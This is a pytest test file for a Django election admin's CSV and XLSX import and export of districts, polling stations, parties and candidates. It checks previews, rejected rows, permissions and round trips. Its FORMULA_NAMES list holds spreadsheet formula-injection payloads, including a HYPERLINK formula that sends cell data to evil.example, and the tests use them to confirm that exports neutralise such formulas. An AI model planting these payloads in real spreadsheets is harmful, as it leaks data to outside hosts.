"""Officials import and export districts, polling stations, parties and candidates as CSV or XLSX in the admin."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.admin.models import ADDITION, LogEntry
from django.contrib.auth.models import Permission, User
from django.contrib.messages import get_messages
from django.contrib.messages.storage.fallback import FallbackStorage
from django.contrib.sessions.backends.db import SessionStore
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test import Client, RequestFactory
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from import_export.formats.base_formats import CSV, XLSX, Format
from import_export.tmp_storages import CacheStorage

from elections.imports import ElectionImportExportMixin, describe_rejected_rows
from elections.models import Candidate, Contest, District, Election, Party, PollingStation
from elections.resources import (
    CandidateResource,
    DistrictResource,
    ElectionResource,
    PartyResource,
    PollingStationResource,
    neutralise_formula,
    restore_formula,
)
from elections.uploads import MAX_IMPORT_FILE_SIZE, check_columns, read_upload
from trust.audit import find_chain_breaks
from trust.models import AuditEvent

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse as TestResponse

pytestmark = pytest.mark.django_db

FORMAT_INDEX = {"csv": "0", "xlsx": "1"}
FORMAT_CLASS: dict[str, type[Format]] = {"csv": CSV, "xlsx": XLSX}
RESOURCES: dict[str, type[ElectionResource]] = {
    "district": DistrictResource,
    "pollingstation": PollingStationResource,
    "party": PartyResource,
    "candidate": CandidateResource,
}
STATION_HEADER = "code,name,name_ar,district,registered_voters,latitude,longitude"
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "==1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "Plain Name",
]
PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


# --- building files and driving the admin -------------------------------------------------------------------------


def csv_bytes(*lines: str, bom: bool = False) -> bytes:
    return ("\ufeff" if bom else "").encode() + "\r\n".join(lines).encode("utf-8") + b"\r\n"


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def upload(
    client: Client,
    model: str,
    content: bytes,
    *,
    election: Election,
    file_format: str = "csv",
    filename: str | None = None,
) -> TestResponse:
    """Post a file to the admin's import page and return the preview (or the form with its errors)."""
    return client.post(
        reverse(f"admin:elections_{model}_import"),
        {
            "resource": "0",
            "election": election.pk,
            "format": FORMAT_INDEX[file_format],
            "import_file": SimpleUploadedFile(filename or f"{model}.{file_format}", content),
        },
    )


def confirm(client: Client, model: str, preview: TestResponse) -> TestResponse:
    """Press “Confirm import” on a preview page, following the redirect."""
    data = preview.context["confirm_form"].initial
    return client.post(reverse(f"admin:elections_{model}_process_import"), data, follow=True)


def import_file(
    client: Client, model: str, content: bytes, *, election: Election, file_format: str = "csv"
) -> list[str]:
    """Upload and confirm a file; return the messages shown afterwards."""
    preview = upload(client, model, content, election=election, file_format=file_format)
    assert preview.status_code == 200
    assert "confirm_form" in preview.context, preview.context["form"].errors
    return messages_of(confirm(client, model, preview))


def messages_of(response: TestResponse) -> list[str]:
    return [str(message) for message in response.context["messages"]]


def export(client: Client, model: str, file_format: str) -> bytes:
    """Download every object of ``model`` through the admin's export page."""
    resource_class = RESOURCES[model]
    data = {"format": FORMAT_INDEX[file_format], "resource": "0"}
    for field in resource_class().get_export_order():
        data[f"{resource_class.__name__.lower()}_{field}"] = "on"
    response = client.post(reverse(f"admin:elections_{model}_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def rows_of(content: bytes, file_format: str) -> list[list[str]]:
    """The cells of an exported file, header first."""
    if file_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [["" if cell.value is None else str(cell.value) for cell in row] for row in sheet.iter_rows()]


def new_election(slug: str = "fresh") -> Election:
    return Election.objects.create(name=f"Election {slug}", slug=slug, date=dt.date(2027, 5, 1))


def station_values(election: Election) -> list[tuple[Any, ...]]:
    return [
        (s.code, s.name, s.name_ar, s.district.code, s.registered_voters, s.latitude, s.longitude)
        for s in PollingStation.objects.filter(election=election).select_related("district").order_by("code")
    ]


def district_values(election: Election) -> list[tuple[Any, ...]]:
    return [
        (d.code, d.name, d.name_ar, d.parent.code if d.parent else None)
        for d in District.objects.filter(election=election).select_related("parent").order_by("code")
    ]


def party_values(election: Election) -> list[tuple[Any, ...]]:
    return [(p.abbreviation, p.name, p.name_ar, p.colour) for p in Party.objects.filter(election=election)]


def candidate_values(election: Election) -> list[tuple[Any, ...]]:
    return [
        (c.contest.slug, c.ballot_order, c.name_en, c.name_ar, c.party.abbreviation if c.party else None)
        for c in Candidate.objects.filter(contest__election=election).select_related("contest", "party")
    ]


def copy_districts(source: Election, target: Election) -> None:
    for district in source.districts.order_by("pk"):
        District.objects.create(election=target, code=district.code, name=district.name)


def copy_contests_and_parties(source: Election, target: Election) -> None:
    for party in source.parties.all():
        Party.objects.create(election=target, name=party.name, abbreviation=party.abbreviation, colour=party.colour)
    for contest in source.contests.all():
        Contest.objects.create(election=target, name=contest.name, slug=contest.slug)


ROUND_TRIPS: dict[str, tuple[Callable[[Election, Election], None], Callable[[Election], list[tuple[Any, ...]]]]] = {
    "district": (lambda source, target: None, district_values),
    "pollingstation": (copy_districts, station_values),
    "party": (lambda source, target: None, party_values),
    "candidate": (copy_contests_and_parties, candidate_values),
}


# --- the admin flow ---------------------------------------------------------------------------------------------


def test_stations_file_is_previewed_then_loaded_on_confirm(official_client: Client, election: Election) -> None:
    content = csv_bytes(
        STATION_HEADER,
        "N-003,North Clinic,عيادة الشمال,N,700,31.950000,35.910000",
        "S-002,South Gym,,S,300,,",
    )
    preview = upload(official_client, "pollingstation", content, election=election)

    assert preview.status_code == 200
    assert "confirm_form" in preview.context
    assert [row.import_type for row in preview.context["result"].valid_rows()] == ["new", "new"]
    assert not PollingStation.objects.filter(code__in=["N-003", "S-002"]).exists()

    shown = messages_of(confirm(official_client, "pollingstation", preview))

    clinic = PollingStation.objects.get(election=election, code="N-003")
    assert (clinic.name, clinic.name_ar, clinic.district.code, clinic.registered_voters) == (
        "North Clinic",
        "عيادة الشمال",
        "N",
        700,
    )
    assert (clinic.latitude, clinic.longitude) == (Decimal("31.95"), Decimal("35.91"))
    gym = PollingStation.objects.get(election=election, code="S-002")
    assert (gym.latitude, gym.longitude, gym.name_ar) == (None, None, "")
    assert shown == ["2 rows loaded into “Test Election”: 2 new, 0 updated, 0 unchanged."]
    assert LogEntry.objects.filter(object_id__in=[clinic.pk, gym.pk], action_flag=ADDITION).count() == 2


def test_bad_row_is_reported_and_good_rows_load(official_client: Client, election: Election) -> None:
    content = csv_bytes(
        STATION_HEADER,
        "N-003,Good One,,N,100,,",
        "N-004,Bad Count,,N,many,,",
        "N-005,Unknown District,,X,100,,",
        "N-006,Good Two,,S,200,,",
        "N-007,Half Coordinates,,S,10,31.9,",
    )
    preview = upload(official_client, "pollingstation", content, election=election)

    rejected = preview.context["rejected_rows"]
    assert rejected[0] == "Row 3: registered_voters: Enter a whole number."
    assert rejected[1] == "Row 4: district: No district with code “X” in this election."
    assert rejected[2] == "Row 6: Give both latitude and longitude, or neither."
    assert len(rejected) == 3
    page = preview.content.decode()
    assert "Row 3: registered_voters: Enter a whole number." in page
    assert "Confirm import" in page
    assert "confirm_form" in preview.context

    shown = messages_of(confirm(official_client, "pollingstation", preview))

    loaded = set(
        PollingStation.objects.filter(code__startswith="N-00", election=election).values_list("code", flat=True)
    )
    assert loaded == {"N-001", "N-002", "N-003", "N-006"}
    assert shown[0] == "2 rows loaded into “Test Election”: 2 new, 0 updated, 0 unchanged."
    assert shown[1] == "3 rows were rejected and not loaded:"
    assert shown[2:4] == rejected[:2]
    assert shown[4] == "Row 6: Give both latitude and longitude, or neither."


def test_message_after_loading_names_the_first_twenty_rejected_rows(
    official_client: Client, election: Election
) -> None:
    bad_rows = [f"N-1{number:02d},Bad,,N,none,," for number in range(25)]
    preview = upload(
        official_client, "pollingstation", csv_bytes(STATION_HEADER, "N-003,Good,,N,1,,", *bad_rows), election=election
    )

    shown = messages_of(confirm(official_client, "pollingstation", preview))

    assert len(preview.context["rejected_rows"]) == 25
    assert shown[:2] == [
        "1 row loaded into “Test Election”: 1 new, 0 updated, 0 unchanged.",
        "25 rows were rejected and not loaded:",
    ]
    assert shown[2:22] == [f"Row {row}: registered_voters: Enter a whole number." for row in range(3, 23)]
    assert shown[22:] == ["… and 5 more rows."]


def test_import_stopped_before_its_rows_saves_nothing_and_says_so(
    rf: RequestFactory, official: User, election: Election
) -> None:
    request = rf.post("/")
    request.user = official
    request.session = SessionStore()
    request._messages = FallbackStorage(request)  # type: ignore[attr-defined]
    dataset = read_upload(csv_bytes(STATION_HEADER, "N-9,Nine,,N,5,,"), CSV)
    result = PollingStationResource(election=None).import_data(dataset, dry_run=False)

    model_admin = admin.site._registry[PollingStation]
    assert isinstance(model_admin, ElectionImportExportMixin)
    response = model_admin.process_result(result, request)

    assert response.status_code == 302
    assert [str(message) for message in get_messages(request)] == [
        "Nothing was imported: Choose an election that is not certified to import into."
    ]
    assert not PollingStation.objects.filter(code="N-9").exists()


def test_file_whose_rows_are_all_bad_offers_no_confirm(official_client: Client, election: Election) -> None:
    content = csv_bytes(STATION_HEADER, "N-003,Bad,,N,-5,,", "N-004,Bad too,,Nowhere,5,,")
    preview = upload(official_client, "pollingstation", content, election=election)

    assert "confirm_form" not in preview.context
    assert preview.context["rejected_rows"] == [
        "Row 2: registered_voters: Ensure this value is greater than or equal to 0.",
        "Row 3: district: No district with code “Nowhere” in this election.",
    ]
    assert "No row of this file can be loaded." in preview.content.decode()


def test_reimporting_the_same_file_changes_nothing(official_client: Client, election: Election) -> None:
    content = csv_bytes(
        STATION_HEADER,
        "N-001,North School,مدرسة الشمال,N,800,32.000000,35.900000",
        "N-010,New Hall,,N,120,,",
        "S-010,South Mosque,مسجد الجنوب,S,450,,",
    )
    import_file(official_client, "pollingstation", content, election=election)
    before = list(PollingStation.objects.order_by("pk").values())

    preview = upload(official_client, "pollingstation", content, election=election)
    result = preview.context["result"]
    assert [row.import_type for row in result.valid_rows()] == ["skip", "skip", "skip"]
    assert (result.totals["new"], result.totals["update"], result.totals["skip"]) == (0, 0, 3)
    shown = messages_of(confirm(official_client, "pollingstation", preview))

    assert list(PollingStation.objects.order_by("pk").values()) == before
    assert PollingStation.objects.filter(election=election).count() == 5
    assert shown == ["3 rows loaded into “Test Election”: 0 new, 0 updated, 3 unchanged."]
    # Only the import that changed something left an audit event.
    assert AuditEvent.objects.filter(action="import.pollingstation").count() == 1


def test_confirmed_import_leaves_an_audit_event_and_a_preview_leaves_none(
    official_client: Client, election: Election
) -> None:
    content = csv_bytes(STATION_HEADER, "N-003,North Clinic,,N,700,,", "S-002,South Gym,,S,abc,,")
    preview = upload(official_client, "pollingstation", content, election=election)
    assert not AuditEvent.objects.exists()
    confirm(official_client, "pollingstation", preview)
    event = AuditEvent.objects.get(action="import.pollingstation")
    assert event.actor_name == "official"
    assert event.election_id == election.pk
    assert event.after is not None
    assert (event.after["new"], event.after["updated"], event.after["rejected"]) == (1, 0, 1)
    assert find_chain_breaks() is None


def test_row_with_a_known_code_updates_that_station(official_client: Client, election: Election) -> None:
    shown = import_file(
        official_client, "pollingstation", csv_bytes(STATION_HEADER, "N-001,North School,,S,999,,"), election=election
    )

    station = PollingStation.objects.get(election=election, code="N-001")
    assert (station.registered_voters, station.district.code) == (999, "S")
    assert PollingStation.objects.filter(election=election).count() == 3
    assert shown == ["1 row loaded into “Test Election”: 0 new, 1 updated, 0 unchanged."]


def test_same_code_in_another_election_is_a_different_station(official_client: Client, election: Election) -> None:
    other = new_election()
    District.objects.create(election=other, code="N", name="North")

    import_file(official_client, "pollingstation", csv_bytes(STATION_HEADER, "N-001,Elsewhere,,N,5,,"), election=other)

    assert PollingStation.objects.get(election=election, code="N-001").name == "North School"
    assert PollingStation.objects.get(election=other, code="N-001").name == "Elsewhere"


def test_row_repeating_a_code_of_the_same_file_is_rejected(official_client: Client, election: Election) -> None:
    content = csv_bytes(STATION_HEADER, "N-010,First,,N,1,,", "N-010,Second,,N,2,,")
    preview = upload(official_client, "pollingstation", content, election=election)

    assert preview.context["rejected_rows"] == ["Row 3: This row repeats code “N-010” of row 2."]
    confirm(official_client, "pollingstation", preview)
    assert PollingStation.objects.get(election=election, code="N-010").name == "First"


class StationResourceRefusedOnce(PollingStationResource):
    """The stations resource, with a database that refuses the save of station N-004 (as a dropped connection or a
    concurrent writer would); on PostgreSQL the failed statement also aborts the transaction."""

    def before_save_instance(self, instance: PollingStation, row: dict[str, Any], **kwargs: Any) -> None:
        if instance.code == "N-004":
            with connection.cursor() as cursor:
                cursor.execute("SELECT * FROM table_that_does_not_exist")


def test_row_the_database_refuses_is_reported_and_later_rows_load(election: Election, official: User) -> None:
    dataset = read_upload(
        csv_bytes(STATION_HEADER, "N-003,Before,,N,1,,", "N-004,Refused,,N,2,,", "N-005,After,,S,3,,"), CSV
    )

    result = StationResourceRefusedOnce(election=election).import_data(dataset, dry_run=False, user=official)

    assert not result.has_errors()
    assert describe_rejected_rows(result)[0].startswith("Row 3: This row could not be loaded: ")
    assert set(PollingStation.objects.filter(code__in=["N-003", "N-004", "N-005"]).values_list("code", flat=True)) == {
        "N-003",
        "N-005",
    }


def test_districts_find_their_parent_by_code(official_client: Client, election: Election) -> None:
    content = csv_bytes(
        "code,name,name_ar,parent",
        "N-EAST,North East,شمال شرق,N",
        "N-EAST-1,North East One,,N-EAST",
        "LOST,Lost,,NOPE",
    )
    preview = upload(official_client, "district", content, election=election)
    assert preview.context["rejected_rows"] == ["Row 4: parent: No district with code “NOPE” in this election."]
    confirm(official_client, "district", preview)

    assert District.objects.get(election=election, code="N-EAST-1").parent == District.objects.get(code="N-EAST")
    assert District.objects.get(election=election, code="N-EAST").parent == District.objects.get(code="N")


def test_district_cannot_be_made_its_own_ancestor(official_client: Client, election: Election) -> None:
    District.objects.create(election=election, code="N-1", name="North One", parent=election.districts.get(code="N"))
    preview = upload(official_client, "district", csv_bytes("code,name,parent", "N,North,N-1"), election=election)

    assert preview.context["rejected_rows"] == ["Row 2: parent: A district cannot be inside itself."]


def test_candidates_find_contest_by_slug_and_party_by_abbreviation(official_client: Client, election: Election) -> None:
    content = csv_bytes(
        "contest,ballot_order,name_en,name_ar,party",
        "mayor,3,Sara Khalil,سارة خليل,GL",
        "mayor,4,Rami Independent,رامي,",
        "mayor,5,Unknown Party,حزب,XX",
        "council,6,Unknown Contest,مسابقة,",
        "mayor,x,Bad Order,ترتيب,",
    )
    preview = upload(official_client, "candidate", content, election=election)

    assert preview.context["rejected_rows"] == [
        "Row 4: party: No party with abbreviation “XX” in this election.",
        "Row 5: contest: No contest with slug “council” in this election.",
        "Row 6: ballot_order: Enter a whole number.",
    ]
    confirm(official_client, "candidate", preview)
    assert candidate_values(election) == [
        ("mayor", 1, "Amal Haddad", "أمل حداد", "GL"),
        ("mayor", 2, "Omar Nasser", "عمر ناصر", None),
        ("mayor", 3, "Sara Khalil", "سارة خليل", "GL"),
        ("mayor", 4, "Rami Independent", "رامي", None),
    ]


def test_model_validation_runs_on_every_row(official_client: Client, election: Election) -> None:
    content = csv_bytes(
        "abbreviation,name,name_ar,colour",
        "RB,Red Bloc,الكتلة الحمراء,#D62728",
        "BAD ONE,Spaces,,#123456",
        "CL,Colourless,,blue",
        "GL2,Green League,,#2CA02C",
    )
    preview = upload(official_client, "party", content, election=election)

    assert preview.context["rejected_rows"] == [
        "Row 3: abbreviation: Use letters, digits, dots, dashes and underscores only.",
        "Row 4: colour: Enter a colour as #RRGGBB, for example #1F77B4.",
        "Row 5: Party with this Election and Name already exists.",
    ]
    confirm(official_client, "party", preview)
    assert sorted(Party.objects.filter(election=election).values_list("abbreviation", flat=True)) == ["GL", "RB"]


@pytest.mark.parametrize("bom", [True, False], ids=["with-bom", "without-bom"])
def test_utf8_csv_keeps_arabic_names(official_client: Client, election: Election, bom: bool) -> None:
    content = csv_bytes("code,name,name_ar", "E,East,الشرق الأوسط", "W,West,الغرب", bom=bom)

    import_file(official_client, "district", content, election=election)

    assert District.objects.get(election=election, code="E").name_ar == "الشرق الأوسط"
    assert District.objects.get(election=election, code="W").name_ar == "الغرب"


def test_xlsx_with_number_cells_and_empty_trailing_rows_loads(official_client: Client, election: Election) -> None:
    content = xlsx_bytes(
        [
            ["Code", "Name", "Name_AR", "District", "Registered_Voters", "Latitude", "Longitude"],
            ["N-020", "Number Cells", "خلايا", "N", 800, 31.95, -35.5],
            [21, "Numeric Code", None, "S", 12.0, None, None],
            [None, None, None, None, None, None, None],
            ["", " ", None, None, None, None, None],
        ]
    )

    shown = import_file(official_client, "pollingstation", content, election=election, file_format="xlsx")

    station = PollingStation.objects.get(election=election, code="N-020")
    assert (station.registered_voters, station.latitude, station.longitude) == (800, Decimal("31.95"), Decimal("-35.5"))
    assert PollingStation.objects.get(election=election, code="21").registered_voters == 12
    assert shown == ["2 rows loaded into “Test Election”: 2 new, 0 updated, 0 unchanged."]


# --- files that cannot be imported -----------------------------------------------------------------------------


BAD_FILES = [
    pytest.param("stations.csv", PNG_BYTES, "csv", "This is a PNG image, not a CSV file.", id="png-renamed-csv"),
    pytest.param("stations.csv", PDF_BYTES, "csv", "This is a PDF document, not a CSV file.", id="pdf-renamed-csv"),
    pytest.param("stations.xlsx", PDF_BYTES, "xlsx", "This is a PDF document, not an XLSX workbook.", id="pdf-as-xlsx"),
    pytest.param("stations.csv", b"", "csv", "The submitted file is empty.", id="empty"),
    pytest.param("stations.csv", b"\r\n\r\n", "csv", "The file is empty.", id="blank-lines"),
    pytest.param(
        "stations.csv",
        csv_bytes(STATION_HEADER),
        "csv",
        "The file has a header row but no data rows.",
        id="header-only",
    ),
    pytest.param(
        "stations.csv",
        csv_bytes(STATION_HEADER, ",,,,,,", ",,,,,,"),
        "csv",
        "The file has a header row but no data rows.",
        id="header-and-empty-rows",
    ),
    pytest.param(
        "stations.csv",
        csv_bytes("code,name,district", "N-9,Nine,N"),
        "csv",
        "The file is missing the column(s): registered_voters.",
        id="missing-column",
    ),
    pytest.param(
        "stations.csv",
        csv_bytes("code;name;district;registered_voters", "N-9;Nine;N;5"),
        "csv",
        "The file is missing the column(s): code, name, district, registered_voters. Columns must be separated by "
        "commas.",
        id="semicolons",
    ),
    pytest.param(
        "stations.csv",
        csv_bytes("code,name,name,district,registered_voters", "N-9,Nine,Nine,N,5"),
        "csv",
        "The column(s) name appear more than once.",
        id="repeated-column",
    ),
    pytest.param(
        "stations.csv",
        csv_bytes(STATION_HEADER, "N-9,Nine,,N,5,,,extra"),
        "csv",
        "Some rows of the file have more cells than the header row has columns.",
        id="ragged-row",
    ),
    pytest.param(
        "stations.csv",
        "code,name,district,registered_voters\r\nN-9,Nïne,N,5\r\n".encode("latin-1"),
        "csv",
        "The file is not UTF-8 text. Save it as “CSV UTF-8” and upload it again.",
        id="latin-1",
    ),
    pytest.param(
        "districts.csv",
        "code,name,name_ar,district,registered_voters\r\nE-1,East,الشرق,N,5\r\n".encode("cp1256"),
        "csv",
        "The file is not UTF-8 text. Save it as “CSV UTF-8” and upload it again.",
        id="windows-1256-arabic",
    ),
    pytest.param(
        "stations.csv",
        STATION_HEADER.encode("utf-16"),
        "csv",
        "The file is not UTF-8 text. Save it as “CSV UTF-8” and upload it again.",
        id="utf-16",
    ),
    pytest.param(
        "stations.xlsx",
        csv_bytes(STATION_HEADER, "N-9,Nine,,N,5,,"),
        "xlsx",
        "This is not an XLSX workbook. Choose the CSV format for a CSV file.",
        id="csv-as-xlsx",
    ),
    pytest.param(
        "stations.csv",
        xlsx_bytes([["code", "name", "district", "registered_voters"], ["N-9", "Nine", "N", 5]]),
        "csv",
        "This is an XLSX workbook or another ZIP archive, not a CSV file.",
        id="xlsx-as-csv",
    ),
    pytest.param(
        "stations.xlsx",
        b"PK\x03\x04 not really a workbook",
        "xlsx",
        "This XLSX workbook cannot be read. Open it in a spreadsheet, save it again and upload it again.",
        id="broken-xlsx",
    ),
    pytest.param(
        "stations.xlsx",
        xlsx_bytes([["code", "name", "name_ar", "district", "registered_voters"]]),
        "xlsx",
        "The file has a header row but no data rows.",
        id="xlsx-header-only",
    ),
]


@pytest.mark.parametrize(("filename", "content", "file_format", "expected"), BAD_FILES)
def test_unreadable_file_gets_a_form_error_naming_the_problem(
    official_client: Client, election: Election, filename: str, content: bytes, file_format: str, expected: str
) -> None:
    before = station_values(election)
    response = official_client.post(
        reverse("admin:elections_pollingstation_import"),
        {
            "resource": "0",
            "election": election.pk,
            "format": FORMAT_INDEX[file_format],
            "import_file": SimpleUploadedFile(filename, content),
        },
    )

    assert response.status_code == 200
    assert response.context["form"].errors["import_file"] == [expected]
    assert expected in response.content.decode().replace("&#x27;", "'")
    assert "confirm_form" not in response.context
    assert station_values(election) == before


def test_file_over_ten_megabytes_is_refused(official_client: Client, election: Election) -> None:
    content = csv_bytes(STATION_HEADER) + b"x" * MAX_IMPORT_FILE_SIZE

    response = upload(official_client, "pollingstation", content, election=election)

    assert [message.replace("\xa0", " ") for message in response.context["form"].errors["import_file"]] == [
        "The file is larger than 10.0 MB, the most that can be imported at once. Split it into smaller files."
    ]


def test_import_into_a_certified_election_is_refused(official_client: Client, election: Election) -> None:
    Election.objects.filter(pk=election.pk).update(status=Election.Status.CERTIFIED)

    response = upload(
        official_client, "pollingstation", csv_bytes(STATION_HEADER, "N-9,Nine,,N,5,,"), election=election
    )

    assert response.context["form"].errors["election"] == [
        "“Test Election” is certified: its districts, stations, parties and candidates can no longer change."
    ]
    assert not PollingStation.objects.filter(code="N-9").exists()


def test_confirm_is_refused_once_the_election_is_certified(official_client: Client, election: Election) -> None:
    preview = upload(official_client, "pollingstation", csv_bytes(STATION_HEADER, "N-9,Nine,,N,5,,"), election=election)
    Election.objects.filter(pk=election.pk).update(status=Election.Status.CERTIFIED)

    response = confirm(official_client, "pollingstation", preview)

    assert response.redirect_chain[-1][0] == reverse("admin:elections_pollingstation_import")
    assert messages_of(response) == [
        "“Test Election” is certified: its districts, stations, parties and candidates can no longer change."
    ]
    assert not PollingStation.objects.filter(code="N-9").exists()


def test_confirm_after_the_upload_expired_asks_for_the_file_again(official_client: Client, election: Election) -> None:
    preview = upload(official_client, "pollingstation", csv_bytes(STATION_HEADER, "N-9,Nine,,N,5,,"), election=election)
    cache.delete(CacheStorage.CACHE_PREFIX + preview.context["confirm_form"].initial["import_file_name"])

    response = confirm(official_client, "pollingstation", preview)

    assert messages_of(response) == ["The uploaded file is no longer available. Upload it again."]
    assert not PollingStation.objects.filter(code="N-9").exists()


@pytest.mark.parametrize("altered", [{"format": "7"}, {"resource": "3"}, {"election": "999999"}, {"format": "x"}])
def test_altered_confirm_page_gets_a_message(
    official_client: Client, election: Election, altered: dict[str, str]
) -> None:
    preview = upload(official_client, "pollingstation", csv_bytes(STATION_HEADER, "N-9,Nine,,N,5,,"), election=election)
    data = {**preview.context["confirm_form"].initial, **altered}

    response = official_client.post(reverse("admin:elections_pollingstation_process_import"), data, follow=True)

    assert response.status_code == 200
    assert messages_of(response)[0].startswith("Select a valid choice.")
    assert not PollingStation.objects.filter(code="N-9").exists()


# --- export ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("model", list(ROUND_TRIPS))
def test_exported_file_imports_unchanged_into_another_election(
    official_client: Client, election: Election, model: str, file_format: str
) -> None:
    District.objects.create(
        election=election, code="N-1", name="North One", name_ar="الشمال ١", parent=election.districts.get(code="N")
    )
    PollingStation.objects.filter(code="N-001").update(name_ar="مدرسة", latitude=Decimal("-31.5"), longitude=35)
    prepare, values = ROUND_TRIPS[model]
    content = export(official_client, model, file_format)
    target = new_election()
    prepare(election, target)

    shown = import_file(official_client, model, content, election=target, file_format=file_format)

    assert values(target) == values(election)
    assert "0 updated, 0 unchanged" in shown[0]
    assert len(shown) == 1


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_has_the_import_columns(official_client: Client, election: Election, file_format: str) -> None:
    rows = rows_of(export(official_client, "pollingstation", file_format), file_format)

    assert rows[0] == ["code", "name", "name_ar", "district", "registered_voters", "latitude", "longitude"]
    assert rows[1] == ["N-001", "North School", "", "N", "800", "", ""]


def test_csv_export_starts_with_a_byte_order_mark_for_spreadsheets(official_client: Client, election: Election) -> None:
    assert export(official_client, "candidate", "csv").startswith("\ufeffcontest,ballot_order".encode())


def test_districts_are_exported_parents_first(official_client: Client, election: Election) -> None:
    zone = District.objects.create(election=election, code="Z", name="Zone")
    inner = District.objects.create(election=election, code="A-IN-Z", name="Inside Zone", parent=zone)
    District.objects.create(election=election, code="A-IN-A", name="Deeper", parent=inner)

    codes = [row[0] for row in rows_of(export(official_client, "district", "csv"), "csv")[1:]]

    assert codes.index("Z") < codes.index("A-IN-Z") < codes.index("A-IN-A")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_cells_are_neutralised_on_export(official_client: Client, election: Election, file_format: str) -> None:
    district = election.districts.get(code="N")
    for number, name in enumerate(FORMULA_NAMES, start=1):
        PollingStation.objects.create(
            election=election, district=district, code=f"F-{number}", name=name, name_ar=name, registered_voters=1
        )
    content = export(official_client, "pollingstation", file_format)

    cells = [cell for row in rows_of(content, file_format)[1:] for cell in row[1:3]]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in cells
    if file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    target = new_election()
    copy_districts(election, target)
    import_file(official_client, "pollingstation", content, election=target, file_format=file_format)
    imported = dict(PollingStation.objects.filter(election=target).values_list("code", "name"))
    assert [imported[f"F-{number}"] for number in range(1, len(FORMULA_NAMES) + 1)] == [
        name.strip() for name in FORMULA_NAMES
    ]


@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''@x", "'plain", "plain", "-", "'", "", "\t=x", "a=b", "''", "'\n"])
def test_neutralised_text_is_restored_exactly(text: str) -> None:
    assert restore_formula(neutralise_formula(text)) == text
    assert neutralise_formula(text)[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")


# --- who may ------------------------------------------------------------------------------------------------------


def _staff_with(*codenames: str) -> User:
    user = User.objects.create_user(username="limited", password="correct-horse-battery", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(content_type__app_label="elections", codename__in=codenames))
    return user


def test_import_needs_the_add_permission_and_export_the_view_permission(client: Client, election: Election) -> None:
    client.force_login(_staff_with("view_pollingstation"))

    assert client.get(reverse("admin:elections_pollingstation_import")).status_code == 403
    assert client.post(reverse("admin:elections_pollingstation_process_import"), {}).status_code == 403
    assert client.get(reverse("admin:elections_pollingstation_export")).status_code == 200
    assert client.get(reverse("admin:elections_party_export")).status_code == 403


def test_officials_may_import_and_export(official_client: Client, election: Election) -> None:
    changelist = official_client.get(reverse("admin:elections_pollingstation_changelist")).content.decode()
    assert reverse("admin:elections_pollingstation_import") in changelist
    assert reverse("admin:elections_pollingstation_export") in changelist
    for model in RESOURCES:
        assert official_client.get(reverse(f"admin:elections_{model}_import")).status_code == 200
        assert official_client.get(reverse(f"admin:elections_{model}_export")).status_code == 200


def test_only_csv_and_xlsx_are_offered(official_client: Client, election: Election) -> None:
    import_form = official_client.get(reverse("admin:elections_district_import")).context["form"]
    export_form = official_client.get(reverse("admin:elections_district_export")).context["form"]

    assert list(import_form.fields["format"].choices) == [("", "---"), ("0", "csv"), ("1", "xlsx")]
    assert list(export_form.fields["format"].choices) == [("", "---"), ("0", "csv"), ("1", "xlsx")]
    assert list(import_form.fields) == ["resource", "election", "import_file", "format"]


# --- round trip for all inputs -----------------------------------------------------------------------------------

CODES = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.\-]{0,11}", fullmatch=True)
NAMES = (
    st.text(st.characters(categories=["L", "M", "N", "P", "S", "Zs"]), min_size=1, max_size=40)
    .map(str.strip)
    .filter(bool)
)
ARABIC_NAMES = (
    st.text(st.sampled_from("ابتثجحخدذرزسشصضطظعغفقكلمنهوي ءآأؤإئةى٠١٢٣٤٥٦٧٨٩،؛؟-=+@'"), min_size=1, max_size=30)
    .map(str.strip)
    .filter(bool)
)
STATIONS = st.lists(
    st.fixed_dictionaries(
        {
            "code": CODES,
            "name": NAMES | ARABIC_NAMES,
            "name_ar": st.just("") | ARABIC_NAMES,
            "district": st.sampled_from(["N", "S"]),
            "registered_voters": st.integers(min_value=0, max_value=2_147_483_647),
            "coordinates": st.none()
            | st.tuples(
                st.decimals(min_value=-90, max_value=90, places=6), st.decimals(min_value=-180, max_value=180, places=6)
            ),
        }
    ),
    min_size=1,
    max_size=8,
    unique_by=lambda station: station["code"],
)


def _transfer(
    resource: ElectionResource, queryset: Any, file_format: type[Format], target: Election, official: User
) -> Any:
    """Export ``queryset`` as the admin does, read the file back as the admin does, and import it into ``target``."""
    data = file_format().export_data(resource.export(queryset))
